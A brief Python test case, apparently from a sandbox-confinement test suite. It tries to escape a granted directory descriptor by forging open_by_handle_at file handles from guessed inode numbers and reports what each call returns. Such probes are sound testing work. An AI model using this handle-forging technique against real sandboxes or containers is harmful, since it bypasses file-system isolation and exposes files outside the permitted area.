# SPDX-License-Identifier: Apache-2.0
# attack: a handle made up from inode numbers, relative to a granted descriptor
# class: kobj
# wins: unlogged
# native: n/a: without the call it needs the inode's generation
# logged: open_by_handle_at
from kit import *

tried()
fd = openat(BOX, os.O_RDONLY)
for inode in list(range(2, 6)) + [os.fstat(fd).st_ino + i for i in range(40)]:
    spill(sc('open_by_handle_at', fd, struct.pack('<IiII', 8, 1, inode, 0), os.O_RDONLY))
